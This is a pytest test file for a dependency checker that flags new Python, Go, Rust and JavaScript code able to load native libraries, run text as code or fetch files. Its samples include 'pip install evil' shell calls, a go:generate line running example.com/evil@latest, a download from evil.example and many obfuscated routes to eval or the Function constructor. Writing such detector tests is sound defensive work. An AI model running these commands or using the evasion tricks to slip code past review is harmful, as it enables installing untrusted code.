"""What comes with a language can bring a package, too, unless it is known to load, start and fetch nothing."""

import sys

import pytest

from tests.proof.dependencies.test_dependencies import read
from trued.proof.dependencies.source_imports import read_source

BASE = {
    "app.py": "import os\n",
    "web.py": "import urllib.request\n\n\ndef get(url):\n    return urllib.request.urlopen(url)\n",
    "branch.py": "import subprocess\n\n\ndef branch():\n    return subprocess.run(['git', 'branch'])\n",
    "tests/test_app.py": "import http.client\n\nimport app\n\nGET = http.client.HTTPConnection\n",
    "tiny.js": "exports.one = () => 1;\n",
}
BY_PYTHON = {
    "a native library": "import sqlite3\n\nx = sqlite3.connect(':memory:')\nx.load_extension('evil.so')\n",
    "a native library in parts": "import sqlite3\n\nx = sqlite3.connect('a')\n"
    "getattr(x, 'load_' + 'extension')('evil')\n",
    "a native library by a setting": "import sqlite3\n\nx = sqlite3.connect('a')\nx.setconfig(1005, True)\n",
    "a folder of packages": "import site\n\nsite.addsitedir('lib')\n",
    "a folder of packages by another name": "from site import addsitedir as more\n\nmore('lib')\n",
    "a file from elsewhere": "import urllib.request\n\nurllib.request.urlretrieve(place, 'pretty.py')\n",
    "a file from elsewhere by another name": "from urllib import request\n\nget = request.urlretrieve\n",
    "a function that only tests use": "import http.client\n\nGET = http.client.HTTPConnection\n",
    "a socket": "import socket\n\nx = socket.create_connection(('a.example', 80))\n",
    "a pickle": "import pickle\n\nx = pickle.loads(b'')\n",
    "code in a text": "x = compile('import evil', '', 'exec')\n",
    "code in a text, by types": "import types\n\nx = types.FunctionType(compile('import evil', '', 'exec'), {})()\n",
    "a text in a module that runs it": "import doctest\n\ndoctest.run_docstring_examples('>>> import evil', {})\n",
    "names in settings": "import logging.config\n\nlogging.config.dictConfig({})\n",
    "another module's private os": "import random\n\nrandom._os.system('pip install evil')\n",
    "another module's private sys": "from argparse import _sys\n\nx = _sys.modules\n",
    "a script that the server starts": "import http.server\n\nx = http.server.CGIHTTPRequestHandler\n",
    "a module that Python gained": "import a_module_of_another_version\n",
    "a debugger by a variable": "import os\n\n\ndef get(url):\n    os.environ['PYTHONBREAKPOINT'] = 'requests.get'\n"
    "    return breakpoint(url)\n",
    "a debugger": "def get(url):\n    return breakpoint(url)\n",
    "a debugger's hook": "import sys\n\n\ndef get(url):\n    return sys.breakpointhook(url)\n",
    "a built-in by its module": "import builtins\n\n\ndef get(url):\n    return builtins.breakpoint(url)\n",
    "a built-in from its module": "from builtins import help as more\n\nmore('requests')\n",
    "a built-in by its method": "x = exec.__call__(text)\n",
    "a built-in of the module of another": "x = len.__self__.eval(text)\n",
    "help": "def more():\n    return help('requests')\n",
    "help as a value": "x = list(map(help, ['requests']))\n",
    "help that another function binds": "def a(help):\n    return help\n\n\ndef b():\n    return help('requests')\n",
    "help that is bound later": "def a():\n    return help('requests')\n\n\na()\n\n\ndef help(x):\n    return x\n",
    "help that a function may bind": "def a():\n    global help\n    return help('requests')\n",
    "help that a block may bind": "if 0:\n    help = 1\nx = help('requests')\n",
    "help that is bound and removed": "help = 1\ndel help\nx = help('requests')\n",
    "help that an exception removes": "help = 1\ntry:\n    f\nexcept NameError as help:\n    g = 1\n"
    "x = help('requests')\n",
    "help that another file removes": "import app\n\ndel app.help\n",
    "help that another file removes by name": "import app\n\ndelattr(app, 'help')\n",
    "help of a class": "class A:\n    help = 1\n\n    def a(self):\n        return help('requests')\n",
    "help for a default": "def a(help=help('requests')):\n    return help\n",
    "help for a comprehension": "x = [help for help in help('requests')]\n",
    "eval that is imported elsewhere": "def a():\n    from app import one as eval\n\n    return eval\n\n\n"
    "def b(text):\n    return eval(text)\n",
    "a name that nothing binds": "x = get_ipython().run(1)\n",
    "Python's own settings": "import os\nimport sysconfig\n\n\ndef more():\n"
    "    os.environ['_PYTHON_SYSCONFIGDATA_NAME'] = 'requests'\n    return sysconfig.get_config_vars()\n",
    "Python's own settings by another module": "import os\nos.environ['_PYTHON_' + 'SYSCONFIGDATA_NAME'] = 'requests'\n"
    "import zoneinfo\n",
    "a module for unittest": "import unittest\n\nunittest.main('requests', exit=False)\n",
    "a module for unittest by another name": "from unittest import main as go\n\ngo(module='requests')\n",
    "a module for unittest in words": "import unittest\n\nunittest.main(argv=['x', 'requests'])\n",
    "a module for unittest's program": "from unittest import TestProgram\n\nTestProgram('requests')\n",
    "unittest's function as a value": "import unittest\n\ngo = unittest.main\n",
    "a part of unittest": "from unittest.main import main\n\nmain('requests')\n",
    "tests of a package": "import unittest\n\nunittest.defaultTestLoader.discover('requests')\n",
    "tests of a package by a loader": "from unittest import TestLoader\n\nx = TestLoader()\n"
    "x.discover(start_dir='requests')\n",
    "tests of a package by a name": "import unittest\n\ngetattr(unittest.TestLoader(), 'discover')('requests')\n",
    "a private function": "import warnings\n\nwarnings._setoption('ignore::requests.X')\n",
    "a private function by its name": "from warnings import _setoption as go\n\ngo('ignore::requests.X')\n",
    "another interpreter": "from concurrent import interpreters\n\ninterpreters.create().exec('import requests')\n",
    "another interpreter, at once": "import concurrent.interpreters as more\n\nmore.create().exec('import requests')\n",
    "every object": "import gc\n\nx = gc.get_objects()\n",
}
ORDINARY = {
    "values": "import csv\nimport json\nimport math\nimport re\nfrom collections import Counter\n"
    "from dataclasses import dataclass\nfrom datetime import datetime\nfrom functools import partial\n"
    "from itertools import chain\nfrom pathlib import Path\nfrom typing import Any\n"
    "x = re.compile('a'), Counter('a')\n",
    "abstract collections": "from collections.abc import Mapping\nfrom concurrent import futures\n"
    "import concurrent.futures\nimport xml.etree.ElementTree as tree\n",
    "a command line": "import argparse\nimport logging\nfrom logging.handlers import RotatingFileHandler\n"
    "import sys\n\n"
    "log = logging.getLogger(__name__)\n\n\ndef main():\n    found = argparse.ArgumentParser()\n"
    "    return getattr(found, sys.argv[1])\n",
    "a database": "import sqlite3\n\nx = sqlite3.connect('a.db')\nx.row_factory = sqlite3.Row\n"
    "x.execute('SELECT 1').fetchall()\n",
    "a server": "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
    "from urllib.parse import parse_qs\n"
    "from http import HTTPStatus\nfrom urllib.error import URLError\n\n\n"
    "class Answers(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.send_response(HTTPStatus.OK)\n",
    "an event loop": "import asyncio\n\nasyncio.run(asyncio.sleep(1))\n",
    "a program that the base starts": "import subprocess\n\nsubprocess.run(['git', 'branch'], check=True)\n",
    "a function of the base's": "from urllib.request import urlopen\n\n\ndef more(url):\n"
    "    return urlopen(url).read()\n",
    "files and times": "import os\nimport shutil\nimport tempfile\nimport time\nimport zipfile\n\n"
    "x = os.path.join('a', 'b'), time.time(), shutil.copy, tempfile.mkdtemp()\n",
    "built-ins": "def all_of(*a, **k):\n    print(abs(1), all(a), any(a), ascii(1), bin(1), bool(1), bytearray(1))\n"
    "    x = bytes(1), callable(a), chr(1), complex(1), dict(k), dir(a), divmod(1, 2), enumerate(a), filter(None, a)\n"
    "    x = float(1), format(1), frozenset(a), getattr(a, 'b', None), hasattr(a, 'b'), hash(1), hex(1), id(a)\n"
    "    x = int(1), isinstance(a, tuple), issubclass(int, object), iter(a), len(a), list(a), map(str, a), max(a)\n"
    "    x = memoryview(b''), min(a), next(iter(a)), oct(1), open('a'), ord('a'), pow(1, 2), range(1), repr(a)\n"
    "    x = reversed(a), round(1), set(a), setattr(a, 'b', 1), slice(1), sorted(a), sum(a), super, tuple(a), type(a)\n"
    "    x = zip(a, a), property, staticmethod, classmethod, vars(a[0]), delattr(a, 'b'), NotImplemented, input()\n"
    "    raise SystemExit(x) from KeyError(__name__, __file__, __doc__, __debug__)\n",
    "errors and old names": "try:\n    text = unicode\nexcept (NameError, WindowsError, ExceptionGroup, OSError):\n"
    "    text = str\nx = _('text')\n",
    "help of its own": "import argparse\n\n\ndef option(parser, name, help=None, eval=1):\n"
    "    parser.add_argument(name, help=help)\n    return [eval for help in [1]], lambda help: help\n\n\n"
    "class A:\n    help = 'x'\n    more = help\n\n    def b(self):\n        return self.help, self.eval\n",
    "functions of its own": "def help(x):\n    return x\n\n\ndef main():\n    return help(1)\n\n\n"
    "from re import compile\nWORD = compile('a')\n",
    "names of every kind": "import os.path as where\nfrom app import *\n\nclass A[T]: ...\n"
    if sys.version_info >= (3, 12)
    else "import os.path as where\n\nwith open('a') as file, open('b') as (c, d):\n    for e, *f in file:\n"
    "        if g := e:\n            print(g, c, d, f, where.join)\nmatch file:\n    case [h, *i]:\n        h(i)\n"
    "    case {'a': j, **k} as m:\n        print(j, k, m)\n",
    "of sys": "import sys\n\n\ndef a():\n    print(sys.argv, sys.path, sys.platform, sys.version_info, sys.maxsize)\n"
    "    sys.stdout.write(sys.executable)\n    sys.stderr.flush()\n    sys.setrecursionlimit(9)\n    sys.exc_info()\n"
    "    sys.exit(sys.getsizeof(1))\n",
    "variables": "import os\nimport zoneinfo\n\nos.environ['PYTHONUNBUFFERED'] = '1'\n"
    "x = os.environ.get('PYTHON_VERSION'), os.getenv('PYTHONPATH')\n",
    "tests": "import unittest\nfrom unittest import TestCase, main, mock\n\n\nclass A(TestCase):\n"
    "    def test_a(self):\n        self.assertEqual(1, 1)\n\n\n"
    "if __name__ == '__main__':\n    suite = unittest.TestLoader().discover('tests')\n"
    "    unittest.defaultTestLoader.discover('.')\n    unittest.TextTestRunner().run(suite)\n"
    "    unittest.main(verbosity=2)\n    main()\n",
    "private classes": "import argparse\nimport typing\nimport warnings\n\n\n"
    "def add(found: 'argparse._SubParsersAction', at: argparse._ArgumentGroup):\n    warnings.simplefilter('error')\n"
    "    return typing._GenericAlias, __import__('json').dumps\n",
    "what else may be discovered": "def find(net):\n    return net.discover('printers'), net.main('x')\n",
    "pools": "from concurrent import futures\nfrom concurrent.futures import ThreadPoolExecutor\n\n"
    "x = futures.ProcessPoolExecutor, ThreadPoolExecutor()\n",
    "methods of its own": "class A:\n    def compile(self):\n        return self._os, self.site, self.select()\n",
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", BY_PYTHON)
async def test_a_module_of_python_that_may_load_start_or_fetch_is_unread(name: str) -> None:
    assert (await read({"more.py": BY_PYTHON[name]}, BASE)).startswith("unread more.py")


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", ORDINARY)
async def test_an_ordinary_module_of_python_is_read(name: str) -> None:
    assert await read({"more.py": ORDINARY[name]}, BASE) == "proven"


@pytest.mark.spec("DAY-9")
async def test_a_test_may_ask_its_own_machine() -> None:
    asks = "import urllib.request\n\n\ndef test_a(port):\n    urllib.request.urlretrieve(f'http://{}:{{port}}/a')\n"
    assert await read({"tests/test_more.py": asks.replace("{}", "127.0.0.1")}, BASE) == "proven"
    assert await read({"tests/test_more.py": asks.replace("{}", "localhost")}, BASE) == "proven"
    found = await read({"tests/test_more.py": asks.replace("{}", "evil.example")}, BASE)
    assert found.startswith("unread tests/test_more.py")


@pytest.mark.spec("DAY-9")
async def test_a_file_may_go_on_using_what_it_used() -> None:
    base = {"more.py": "import ctypes\n\nx = ctypes.CDLL('libm.so')\n"}
    assert await read({"more.py": f"{base['more.py']}\n\ny = 1\n"}, base) == "proven"
    assert await read({"more.py": f"{base['more.py']}\n\ny = ctypes.CDLL('evil.so')\n"}, base) == "unread more.py"


GO_BASE = {
    "go.mod": "module example.com/svc\n\ngo 1.21\n",
    "svc/one.go": "package svc\n\nfunc One() int { return 1 }\n",
    "svc/c.go": 'package svc\n\n// #include <math.h>\nimport "C"\n\nfunc Two() float64 { return float64(C.sqrt(4)) }\n',
    "svc/run.go": 'package svc\n\nimport "os/exec"\n\nfunc Log() { exec.Command("git", "log").Run() }\n',
    "main.rs": "fn main() {}\n",
}
HEAD_OF_GO = "package svc\n\n"
BY_GO = {
    "a library of the system": '// #cgo LDFLAGS: -lsodium\n// #include <sodium.h>\nimport "C"\n\n'
    "var x = C.sodium_init()\n",
    "a plugin": 'import "plugin"\n\nfunc Load() { plugin.Open("evil.so") }\n',
    "a plugin in a group": 'import (\n\t"fmt"\n\tp `plugin`\n)\n\nfunc Load() { fmt.Print(p.Open("evil.so")) }\n',
    "a plugin in another spelling": 'import "plu\\x67in"\n\nfunc Load() { plugin.Open("evil.so") }\n',
    "a plugin behind a comment": 'import /* " */ "plugin"\n\nfunc Load() { plugin.Open("evil.so") }\n',
    "a plugin after another import": 'import "fmt"; import "plugin"\n\n'
    'func Load() { fmt.Print(plugin.Open("evil.so")) }\n',
    "calls of the system": 'import "syscall"\n\nvar x = syscall.Exec\n',
    "memory": 'import "unsafe"\n\nvar x unsafe.Pointer\n',
    "a name of another package": 'import _ "unsafe"\n\n//go:linkname open plugin.open\nfunc open(name string)\n',
    "a generator": "//go:generate go run example.com/evil@latest\n\nfunc Two() int { return 2 }\n",
    "the toolchain": 'import "go/build"\n\nvar x = build.Import\n',
    "a program": 'import "os/exec"\n\nfunc Go() { exec.Command("pip", "install", "evil").Run() }\n',
    "a program without its package's name": 'import . "os/exec"\n\nvar x = Command("pip")\n',
}
ORDINARY_GO = {
    "values": 'import (\n\t"encoding/json"\n\t"errors"\n\t"fmt"\n\t"strings"\n\t"time"\n)\n\n'
    "var X = fmt.Sprint(json.Marshal, errors.New, strings.ToUpper, time.Now)\n",
    "a server": 'import (\n\t"context"\n\t"log/slog"\n\t"net/http"\n\t"os"\n\t"sync"\n)\n\n'
    "var X = http.NewServeMux()\nvar Y = []any{context.Background, slog.Info, os.Args, &sync.Mutex{}}\n",
    "its own package": 'import "example.com/svc/svc"\n\nvar X = svc.One()\n',
    "files in the program": 'import _ "embed"\n\n//go:embed page.html\nvar page string\n',
    "a build tag": '//go:build linux\n\nimport "os"\n\nvar X = os.Args\n',
    "what looks like one": 'import "fmt"\n\n// import "plugin" is not used.\n'
    'var X = fmt.Sprint("plugin", `import "C"`, "unsafe")\n',
    "a program that the base starts": 'import "os/exec"\n\nfunc Go() { exec.Command("git", "log").Run() }\n',
}
BY_RUST = {
    "a library of the system": '#[link(name = "evil")]\nextern "C" {\n    fn go();\n}\n',
    "memory": "fn main() { unsafe { go() } }\n",
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", BY_GO)
async def test_a_package_of_go_that_may_load_or_start_is_unread(name: str) -> None:
    assert await read({"svc/more.go": f"{HEAD_OF_GO}{BY_GO[name]}"}, GO_BASE) == "unread svc/more.go"


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", ORDINARY_GO)
async def test_an_ordinary_package_of_go_is_read(name: str) -> None:
    assert await read({"svc/more.go": f"{HEAD_OF_GO}{ORDINARY_GO[name]}"}, GO_BASE) == "proven"


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", BY_RUST)
async def test_code_in_rust_that_leads_out_of_it_is_unread(name: str) -> None:
    assert await read({"main.rs": BY_RUST[name]}, GO_BASE) == "unread main.rs"


@pytest.mark.spec("DAY-9")
async def test_what_a_go_file_takes_from_c_is_compared() -> None:
    text = GO_BASE["svc/c.go"]
    assert await read({"svc/c.go": f"{text}\nfunc Three() int {{ return 3 }}\n"}, GO_BASE) == "proven"
    for more in (
        f"{text}\nvar x = C.dlopen(C.CString(name), 1)\n",
        text.replace("// #inc", "// #cgo LDFLAGS: -lx\n// #inc"),
    ):
        assert await read({"svc/c.go": more}, GO_BASE) == "unread svc/c.go"


BY_NODE = {
    "a function's maker by destructuring": "const { constructor: Made } = () => 1;\nMade('return 1')();\n",
    "a function's maker by its short name": "const { constructor } = () => 1;\nconstructor('return 1')();\n",
    "a function's maker as a value": "const made = (() => 1).constructor;\nmade('return 1')();\n",
    "a function's maker by a string": "const made = (() => 1)['constructor'];\nmade('return 1')();\n",
    "a function's maker by parts": "const made = (() => 1)['con' + \"structor\"];\nmade('return 1')();\n",
    "a function's maker by a key": "const key = 'constructor';\n(() => 1)[key]('return 1')();\n",
    "a function's maker by reflection": "Reflect.get(() => 1, 'constructor')('return 1')();\n",
    "a function's maker in a static method": "class A { static go() { return new this.constructor('x'); } }\n",
    "a name with escapes": "const { c\\u006fnstructor: Made } = () => 1;\n",
    "a string with escapes": "const made = (() => 1)['c\\x6fnstructor'];\n",
    "a string with needless escapes": "const made = (() => 1)['c\\onstructor'];\n",
    "between regular expressions": "const a = /\"/; (() => 1).constructor('return 1')(); const b = /\"/;\n",
    "after a condition": "if (x) /\"/.test('');(() => 1).constructor('return 1')(); /\"/;\n",
    "after a condition, on several lines": "if (x) /`/.test('');\n(() => 1).constructor('return 1')();\n/`/;\n",
    "Function as a value": "const F = Function;\nF('return 1')();\n",
    "Function by reflection": "Reflect.construct(Function, ['return 1'])();\n",
    "Function of the global object": "globalThis.Function('return 1')();\n",
    "eval under another name": "const { eval: go } = globalThis;\ngo('1');\n",
    "require under another name": "const { require: load } = module;\nload(name);\n",
    "an import in a text in parts": "const text = 'im' + 'port(\"evil\")';\n",
    "a native library": "process.dlopen(module, 'evil.node');\n",
    "a native library by destructuring": "import { dlopen } from 'node:process';\ndlopen(m, 'evil.node');\n",
    "a module by another name": "const { getBuiltinModule: get } = process;\nget(name);\n",
    "loaders": "import { register } from 'node:module';\nregister('./x.mjs');\n",
    "a database with libraries": "import { DatabaseSync } from 'node:sqlite';\n",
    "a module that Node gained": "import x from 'node:ffi';\n",
    "a module of Bun": "import { dlopen } from 'bun:ffi';\n",
    "another program": "exports.more = () => process.execve('/usr/bin/npx', ['npx', 'left-pad']);\n",
    "another program by destructuring": "const { env, execve } = process;\n",
    "another program by an import": "import { execve as go } from 'node:process';\n",
    "another program by a module": "import p from 'node:process';\np.replace('/usr/bin/npx');\n",
    "another program by all of a module": "import * as p from 'process';\np.replace('/usr/bin/npx');\n",
    "another program by a required module": "const p = require('process');\np.replace('/usr/bin/npx');\n",
    "another program by a required member": "const go = require('process').replace;\n",
    "another program by a required part": "const { replace: go } = require('node:process');\n",
    "another program by a late import": "import('node:process').then((p) => p.replace('x'));\n",
    "what Node gained": "process.replace('/usr/bin/npx');\n",
    "what Node gained, of the global object": "globalThis.process.replace('/usr/bin/npx');\n",
    "what Node gained, after a break": "process\n  .replace('/usr/bin/npx');\n",
    "what Node gained, if there": "process?.replace('/usr/bin/npx');\n",
    "process as a value": "const p = process;\np.replace('/usr/bin/npx');\n",
    "process as an argument": "((p) => p.replace('/usr/bin/npx'))(process);\n",
    "process as the rest": "const { env, ...rest } = process;\nrest.replace('x');\n",
    "process of the global object": "const { process: p } = globalThis;\np.replace('x');\n",
    "process beside a function": "function f() {\n  function process() {}\n}\nconst p = process;\np.replace('x');\n",
    "a name after an unusual blank": "import _ from\ufeff'lodash';\n",
    "a name between comments that look like strings": "void /\"/; import _ from/*\"*/'lodash';\n",
    "a name after a long comment": f"void /\"/; import _ from/*\"{'x' * 200}*/'lodash';\n",
    "a function's maker after a word": "void /\"/; (() => 1).constructor('return 1')(); //\"\n",
    "a function's maker at the beginning": "/\"/; (() => 1).constructor('return 1')(); //\"\n",
    "a function's maker after a comment": "1; /**/ /\"/; (() => 1).constructor('return 1')(); //\"\n",
    "a function's maker in a division": "const of = 2; of / (() => 1).constructor('return 1')() / 1;\n",
    "a function's maker after a line's end": "// x\u2028(() => 1).constructor('return 1')();\n",
    "a function's maker after half a line's end": "// x\r(() => 1).constructor('return 1')();\n",
    "a condition on several lines": "if (x)\n/\"/.test('');(() => 1).constructor('return 1')(); /\"/;\n",
    "an absolute path": "import _ from '/usr/share/nodejs/lodash/lodash.js';\n",
    "a path out of the project": "import _ from '../../usr/share/nodejs/lodash/lodash.js';\n",
    "files of a package": "const all = import.meta.glob('/node_modules/lodash-es/*.js');\n",
    "files of packages": "const all = import.meta.glob(['./a/*.js', '/node_modules/**/x.js']);\n",
    "computed files": "const all = import.meta.glob(place);\n",
    "a package's folder": "const all = import.meta.webpackContext('lodash');\n",
    "a package's worker": "const work = new Worker(new URL('lodash', import.meta.url));\n",
    "a path into a package": "const place = new URL('../node_modules/lodash/x.js', import.meta.url);\n",
}
ORDINARY_NODE = {
    "words before a division or a pattern": "export const f = async (a) => { if (typeof /a/ !== 'b') throw /c\"/; };\n"
    "export const half = (end) => end.of / 2 + 'a/b' + x.in / 3;\n",
    "the ends of lines of Windows": "/* a */\r\nexport const a = 'b';\r\n",
    "names in comments": "import a /* 'b' */ from /* here */ './index.js'; // from a to b\n",
    "own files": "const all = import.meta.glob('./parts/*.js', { eager: true });\nconst mode = import.meta.env.MODE;\n"
    "const more = import.meta.glob<Part>(['./a/*.ts', '!./b/*.ts']);\n"
    "const work = new Worker(new URL('./work.js', import.meta.url)), page = new URL('page.html', import.meta.url);\n"
    "const there = new URL('/api', location.href), x = new URL('https://localhost/a');\n",
    "what is left out": "export default { exclude: ['**/node_modules/**', 'node_modules/'], test: /node_modules/ };\n",
    "own absolute paths": "import a from '/index.js';\nimport b from '/logo.png';\n",
    "a class": "export class A extends B {\n  constructor(x) { super(x); this.name = this.constructor.name; }\n"
    "  copy() { return new this.constructor(this.x); }\n}\n",
    "kinds of objects": "export const same = (a, b) => a.constructor === b.constructor || a.constructor.name;\n",
    "a guard": "export const bad = (key) => key === '__proto__' || key === 'constructor';\n",
    "an error": "export class E extends Error {\n"
    "  constructor(x) { super(x); Error.captureStackTrace(this, this.constructor); }\n}\n",
    "replacements": "export const go = (a) => a.replace(/,([\\r\\n])/g, '$1').replace(/a/, \"b\");\n",
    "names of tests": "import test from 'node:test';\nimport assert from 'node:assert/strict';\n"
    "test('constructor', () => { assert.equal(1, 1); });\n",
    "functions": "export const is = (x) => x instanceof Function || Function.prototype.toString.call(x) === '';\n",
    "modules": "import fs from 'node:fs/promises';\nimport http from 'http';\nimport path from 'node:path';\n"
    "import { setTimeout } from 'timers/promises';\nimport { promisify } from 'util';\n"
    "import process from 'node:process';\n"
    "export const where = path.join(process.cwd(), 'a');\n",
    "expressions": "export const found = /[\"'`]\\w+\\u00e9/.test('a') || 1 / 2;\n// the constructor\n",
    "texts": "export const text = 'an ' + 'eval' + \"uation\" + `of ${found}/a`;\n",
    "settings": "export const rules = { require: 1, eval: true, 'no-eval': 'error' };\n",
    "process": "const { env, argv: [, , ...words] } = process;\nprocess.on('exit', () => process.exit(1));\n"
    "process.exitCode = 1;\nconsole.log(process.env.HOME, process.cwd(), process.argv.slice(2), process.platform);\n"
    "process.stdout.write(`${process.pid} in process. ${process.uptime()}`);\nprocess.stdin.on('data', () => {});\n"
    "process\n  .once('SIGTERM', () => process.kill(process.pid));\nprocess.nextTick(() => process.hrtime.bigint());\n"
    "if (typeof process !== 'undefined' && process?.env?.A) process.emitWarning('x');\n"
    "const mode = typeof process === 'undefined' ? '' : process.env.NODE_ENV;\nprocess.memoryUsage().rss;\n",
    "process of tests": "import process, { argv } from 'node:process';\nimport { stdin as input } from 'process';\n"
    "const { env } = require('node:process');\nconst { exit } = process;\njest.spyOn(process, 'exit');\n"
    "vi.spyOn(process.stdout, 'write');\nconst old = require('process').env;\nglobalThis.process.exit(0);\n",
    "a function called process": "export async function process(job) { return job; }\n"
    "export const all = (jobs) => jobs.map(process).filter((job) => process(job));\nmodule.exports = { process };\n",
    "a method called process": "class A {\n  process(x) { return this.process.start(x) ?? { process: 1, x }; }\n}\n",
    "words about processes": "const a = `Failed to process ${x}`, b = `the process (process ${y}) in process: ${a}`;\n"
    "const c = <p>How we process, and process. Then</p>;\nconst d = `${b}/process.js`;\n",
    "numbers": "export const half = (a) => (a + 1) / 2 + 'px';\n",
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", BY_NODE)
async def test_what_may_run_a_text_or_load_in_a_script_is_unread(name: str) -> None:
    assert (await read({"more.js": BY_NODE[name]}, BASE)).startswith("unread more.js")


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", ORDINARY_NODE)
async def test_an_ordinary_script_is_read(name: str) -> None:
    base = {**BASE, "index.js": "", "page.html": "", "public/logo.png": ""}
    assert await read({"more.js": ORDINARY_NODE[name]}, base) == "proven"


@pytest.mark.spec("DAY-9")
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("bundle.js", "f(x)/2;" + "g(x)/y+'a'+\"b\"+" * 20_000),
        ("bundle.js", "a = b(c) /2" + " + 'd'" * 40_000),
        ("big.go", "package a\n\nimport (\n\t" + "a" * 40_000 + "\n)\n"),
    ],
    ids=["minified", "without an end", "a Go name"],
)
def test_a_long_line_is_read_in_time(path: str, text: str) -> None:
    assert read_source(path, text).parsed
